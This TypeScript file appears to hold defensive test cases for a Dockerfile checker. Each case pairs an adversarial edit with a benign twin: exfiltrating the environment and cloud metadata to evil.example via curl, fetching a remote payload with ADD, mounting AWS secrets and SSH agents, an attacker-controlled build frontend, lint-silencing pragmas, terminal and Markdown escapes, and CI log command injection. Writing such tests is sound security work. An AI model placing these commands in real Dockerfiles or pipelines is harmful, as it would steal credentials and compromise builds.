import { elf, sample } from './material.ts';
import type { FileCase } from './case.ts';

const file = `${sample}/Dockerfile`;
const first = '# The toolchain runs on the builder';
const build = '# The cache is keyed by content';
const copied = '# Owned by root, so that';
const user = '# Numeric: Kubernetes';
const titled = 'org.opencontainers.image.title="docc-sample"';

/** The reference's own lets nothing into the build but Go. */
const letIn = (name: string) => ({ [`${sample}/.dockerignore`]: { edits: [['!go.mod\n', `!go.mod\n!${name}\n`]] } }) as const;

const before = (mark: string, lines: string) => ({ [file]: { edits: [[mark, `${lines}\n${mark}`]] } }) as const;

export const D: readonly FileCase[] = [
  {
    id: 'D01',
    tried: 'a frontend of the candidate’s own, by `# syntax=`',
    must: 'refused',
    changes: before(first, '# syntax=evil.example/frontend:1'),
    loses: [
      { check: 'dockerfile-parses', at: 'assets/sample/Dockerfile:1', observed: '# syntax=evil.example/frontend:1 would have the build done by a program of its own' },
    ],
    twin: { is: 'Docker’s own frontend', changes: before(first, '# syntax=docker/dockerfile:1') },
  },
  {
    id: 'D02',
    tried: 'a RUN that asks for the host’s network and for privileges',
    must: 'denied',
    changes: before(build, 'RUN --network=host --security=insecure true'),
    deeper: 'image',
    loses: [],
    twin: { is: 'a RUN in the sandbox, by name', changes: before(build, 'RUN --network=none --security=sandbox true') },
  },
  {
    id: 'D03',
    tried: 'a RUN that sends its environment and the cloud’s metadata away',
    must: 'denied',
    changes: before(build, 'RUN env | curl -fsS --data-binary @- https://evil.example/ && curl -fsS http://169.254.169.254/latest/meta-data/'),
    deeper: 'image',
    loses: [],
    twin: { is: 'a RUN that looks at its environment', changes: before(build, 'RUN go env') },
  },
  {
    id: 'D04',
    tried: 'mounts of secrets and of an SSH agent',
    must: 'denied',
    changes: before(build, 'RUN --mount=type=secret,id=aws,required=true --mount=type=ssh,required=true cat /run/secrets/aws'),
    deeper: 'image',
    loses: [],
    twin: { is: 'a mount of a secret that need not be there', changes: before(build, 'RUN --mount=type=secret,id=netrc,target=/root/.netrc go version') },
  },
  {
    id: 'D05',
    tried: 'ADD of an address',
    must: 'refused',
    changes: before(copied, 'ADD https://evil.example/payload /payload'),
    deeper: 'image',
    loses: [],
    twin: { is: 'a file of the context', changes: { ...letIn('terms.txt'), ...before(copied, 'COPY terms.txt /terms.txt'), [`${sample}/terms.txt`]: { text: 'MIT.\n' } } },
  },
  {
    id: 'D06',
    tried: 'a policy for the builder beside the Dockerfile',
    must: 'neutralised',
    changes: { [`${sample}/Dockerfile.rego`]: { text: 'package docker\n\ndefault allow := false\n' } },
    loses: [],
    twin: { is: 'a policy of somebody else’s elsewhere', changes: { 'policies/images.rego': { text: 'package images\n\ndefault allow := false\n' } } },
  },
  {
    id: 'D09',
    tried: 'pragmas and a configuration that silence hadolint',
    must: 'neutralised',
    changes: {
      ...before(build, '# hadolint global ignore=DL3003\n# hadolint ignore=DL3003\nRUN cd /src && go version'),
      '.hadolint.yaml': { text: 'ignored: [DL3003]\nfailure-threshold: none\n' },
      [`${sample}/.hadolint.yaml`]: { text: 'ignored: [DL3003]\n' },
    },
    loses: [
      { check: 'lint-no-warnings', at: 'assets/sample/Dockerfile:18', observed: 'DL3003 on line 18' },
    ],
    twin: { is: 'a word about hadolint in a comment', changes: before(build, '# hadolint is content with this') },
  },
  {
    id: 'D09',
    tried: 'a pragma that has hadolint read no shell',
    must: 'refused',
    changes: before(build, '# hadolint shell=pwsh\nRUN go version | head'),
    loses: [
      { check: 'lint-no-errors', at: 'assets/sample/Dockerfile:16', observed: 'DOCC-SHELL-PRAGMA on line 16' },
    ],
    twin: { is: 'a shell by SHELL', changes: before(build, 'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN go version | head -n 1') },
  },
  {
    id: 'D11',
    tried: 'escapes of terminals, mentions and Markdown in LABEL',
    must: 'neutralised',
    changes: { [file]: { edits: [[titled, 'org.opencontainers.image.title="\u001b[2J\u202e@org/team <!-- docc --> fixes #1 ](javascript:alert(1))"']] } },
    loses: [],
    twin: { is: 'a label in another language', changes: { [file]: { edits: [[titled, 'org.opencontainers.image.title="docc-sample: Beispiel für Prüfungen ✓"']] } } },
  },
  {
    id: 'D12',
    tried: 'commands for the runner’s log in what a report quotes',
    must: 'neutralised',
    changes: before(build, 'RUN cd /src && echo "::add-mask::a ::error::pwned ##[group]x"\n::set-output name=score::100'),
    loses: [
      { check: 'dockerfile-parses', at: 'assets/sample/Dockerfile:17', observed: 'there is no instruction ::SET-OUTPUT' },
    ],
    twin: { is: 'colons in an honest command', changes: before(build, 'RUN echo "built::by::docc"') },
  },
  {
    id: 'D13',
    tried: 'a committed program in place of the compiled one',
    must: 'refused',
    changes: { ...letIn('server.bin'), ...before(user, 'COPY server.bin /docc-sample'), [`${sample}/server.bin`]: { bytes: elf } },
    loses: [{ check: 'dockerfile-parses', at: 'assets/sample/Dockerfile:26', observed: 'the image starts `/docc-sample`, which is the file `assets/sample/server.bin` of the repository' }],
    twin: { is: 'a committed file that nothing starts', changes: { ...letIn('notice.txt'), ...before(user, 'COPY notice.txt /notice.txt'), [`${sample}/notice.txt`]: { text: 'Made for docc.\n' } } },
  },
];
